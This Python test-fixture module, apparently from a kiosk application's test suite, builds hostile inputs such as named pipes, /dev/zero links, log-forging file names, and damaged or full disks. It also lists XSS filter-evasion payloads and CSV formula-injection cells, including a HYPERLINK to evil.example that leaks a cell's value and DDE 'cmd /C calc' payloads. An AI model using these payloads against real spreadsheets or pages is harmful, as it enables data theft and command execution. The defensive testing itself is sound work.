"""Hostile inputs the tests make for themselves: what an attacker, a careless editor or a
failing machine hands the kiosk. Files that are not files, names that forge lines, paths that
lead out of the folder, sheets and subtitles too large; settings that once passed; damaged,
read-only and full disks.

Each maker makes one thing at the path it is given (its folders too) and returns the path.
"""

from __future__ import annotations

import contextlib
import os
import random
import re
import shutil
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

# --- The importer (files, names, spreadsheets, subtitles) ----------------------------------

FORGED_LINE = "rejected: forged.jpg: this line was written by a file name"


def _parent(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def make_fifo(path: Path) -> Path:
    """A named pipe: opening it for reading waits for a writer that never comes."""
    os.mkfifo(_parent(path))
    return path


def make_dev_zero_link(path: Path) -> Path:
    """A link to /dev/zero: reading it never ends."""
    _parent(path).symlink_to("/dev/zero")
    return path


def make_socket(path: Path) -> Path:
    """A Unix socket, left bound (it is a file system entry once bound)."""
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(_parent(path)))
    server.close()
    return path


def make_sparse_file(path: Path, size: int) -> Path:
    """A file of `size` bytes of zeros that takes no room on disk, but is all read to be hashed:
    a huge file is real, slow work for the worker that gets it."""
    with _parent(path).open("wb") as handle:
        handle.truncate(size)
    return path


def make_folder_link(path: Path, target: Path) -> Path:
    """A link to a folder (which may be outside the folder imported)."""
    target.mkdir(parents=True, exist_ok=True)
    _parent(path).symlink_to(target, target_is_directory=True)
    return path


def name_with_a_newline(folder: Path, suffix: str = ".jpg") -> Path:
    """A file name with a line break in it, the second line forging a message of its own."""
    folder.mkdir(parents=True, exist_ok=True)
    return folder / f"evil\n{FORGED_LINE}\x1b[2K{suffix}"


def large_csv(path: Path, size: int, header: str = "Year,Headline") -> Path:
    """A spreadsheet of at least `size` bytes: the header, then rows until it is that large."""
    row = b"1990,An event that repeats itself\n"
    with _parent(path).open("wb") as handle:
        handle.write(header.encode() + b"\n")
        handle.write(row * (size // len(row) + 1))
    return path


def subtitles_with_cues(path: Path, cues: int) -> Path:
    """A WebVTT file of `cues` cues, a tenth of a second each."""
    lines = ["WEBVTT", ""]
    for n in range(cues):
        start, end = n * 100, n * 100 + 90
        lines += [f"{_clock(start)} --> {_clock(end)}", f"cue {n}", ""]
    _parent(path).write_text("\n".join(lines), encoding="utf-8")
    return path


def _clock(ms: int) -> str:
    return f"{ms // 3_600_000:02d}:{ms // 60_000 % 60:02d}:{ms // 1000 % 60:02d}.{ms % 1000:03d}"


# --- Text (markup where plain text belongs) --------------------------------------------------

# Markup typed into a caption or a title: with Qt's AutoText it showed a local picture and a link.
MARKUP = (
    '<img src="file:///etc/secret.jpg" width=300>HACKED <a href="http://x">click</a> '
    "&lt;img src=x&gt;"
)


# Attacks on HTML filters (after OWASP's filter evasion list), as a spreadsheet could carry them.
HTML_EVASIONS = [
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<<img src=x>>",
    "<img src=x",
    '<em onclick="x">e</em>',
    "<em/onmouseover=x>e</em>",
    '<a href="file:///etc/passwd">link</a>',
    "<svg><script>alert(1)</script></svg>",
    "<!--<img src=x>-->",
    "<![CDATA[<img src=x>]]>",
    "<em>&lt;img src=x&gt;</em>",
    "&lt;a href=x&gt;click&lt;/a&gt;",
    "<font color=red size=7>big</font>",
    "<style>@import 'http://x';</style>",
    '<table background="file:///x.jpg"><tr><td>cell</td></tr></table>',
    "<b><i>nested</b></i>",
    "<em>unclosed",
    "x < y > z & w",
]


# --- Settings and homes (staff exit, settings, publishing, permissions) --------------------

# Cells a spreadsheet program would run as formulas, and honest values that look like them.
FORMULA_CELLS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+two quotes",
)
LOOKALIKE_CELLS = ("-5", "+994 12 345 67 89", "-44", "@museum", "'tis the season", "5-7")


LANGUAGES_LINE = re.compile(r"languages = \[[^\]]*\]")  # tomli_w writes it on several lines


def _edited(text: str, old: str | re.Pattern, new: str) -> str:
    edited = old.sub(new, text) if isinstance(old, re.Pattern) else text.replace(old, new)
    assert edited != text, f"the settings file has no {old!r} to edit"
    return edited


def hostile_settings(default_text: str) -> dict[str, tuple[str, str]]:
    """settings.toml edits that once passed `kiosk check` or broke it, by name: the edited
    text and what the one-line error must say."""
    edits = {
        "idle overflows Qt's timer": (
            ("idle_seconds = 90", "idle_seconds = 2147484"),
            "idle_seconds = 2147484 is out of range (from 10 to 3600)",
        ),
        "no countdown": (
            ("countdown_seconds = 15", "countdown_seconds = 0"),
            "countdown_seconds = 0 is out of range (from 3 to 120)",
        ),
        "giant renditions": (
            ("display_edge = 1920", "display_edge = 100000"),
            "display_edge = 100000 is out of range (from 256 to 16384)",
        ),
        "nested languages": (
            (LANGUAGES_LINE, 'languages = [["en"]]'),
            "languages must be a list of language codes",
        ),
        "a language twice": (
            (LANGUAGES_LINE, 'languages = ["en", "az", "en"]'),
            "languages lists 'en' more than once",
        ),
        "garbage PIN hash": (
            ('pin_hash = ""', 'pin_hash = "garbage"'),
            "pin_hash is not a PIN hash written by `kiosk set-pin`",
        ),
        "PIN hash with impossible scrypt cost": (
            ('pin_hash = ""', f'pin_hash = "scrypt$1048576$8$1${"00" * 16}${"00" * 64}"'),
            "pin_hash is not a PIN hash",
        ),
        "setting in another table": (
            ("[media]\n", "[media]\nidle_seconds = 30\n"),
            "idle_seconds is misplaced in [media]; move it under [visitors]",
        ),
        "unknown table": (("[staff]", "[extras]\nx = 1\n\n[staff]"), "unknown table [extras]"),
    }
    cases = {
        name: (_edited(default_text, *edit), message) for name, (edit, message) in edits.items()
    }
    cases["setting above every table"] = (
        "idle_seconds = 5\n" + default_text,
        "idle_seconds is outside its table; move it under [visitors]",
    )
    return cases


def damage_database(path: Path) -> None:
    """A snapshot hit by a failing disk: its header intact, its pages after the first
    overwritten with noise, so it still opens as a database and fails SQLite's quick check."""
    data = bytearray(path.read_bytes())
    page = int.from_bytes(data[16:18], "big") or 65536
    noise = random.Random(1990).randbytes(len(data) - page)
    path.chmod(0o644)
    path.write_bytes(bytes(data[:page]) + noise)


@contextlib.contextmanager
def read_only_view(folder: Path, view: Path) -> Iterator[Path]:
    """`folder` seen through a read-only bind mount at `view`: a write-protected USB stick or
    a home mounted read-only. Root ignores file modes, not a read-only mount. Skips the test
    where mounting is not allowed (not root, or a container without the capability)."""
    view.mkdir(parents=True, exist_ok=True)
    _mount("--bind", str(folder), str(view))
    try:
        _mount("-o", "remount,ro,bind", str(view))
        yield view
    finally:
        subprocess.run(["umount", "--lazy", str(view)], check=False)  # open logs


@contextlib.contextmanager
def small_disk(folder: Path, size: str = "4m") -> Iterator[Path]:
    """A disk of `size` (tmpfs) at `folder`, to fill up."""
    folder.mkdir(parents=True, exist_ok=True)
    _mount("-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(folder))
    try:
        yield folder
    finally:
        subprocess.run(["umount", "--lazy", str(folder)], check=False)  # open logs


def fill_disk(folder: Path) -> None:
    """Write a file in `folder` until the disk holding it has no space left."""
    with (folder / "filler").open("wb", buffering=0) as handle, contextlib.suppress(OSError):
        while True:
            handle.write(b"\0" * 4096)


def _mount(*args: str) -> None:
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("needs root to mount (a read-only or small disk)")
    done = subprocess.run(["mount", *args], capture_output=True, text=True, check=False)
    if done.returncode:
        pytest.skip(f"cannot mount here: {done.stderr.strip()}")
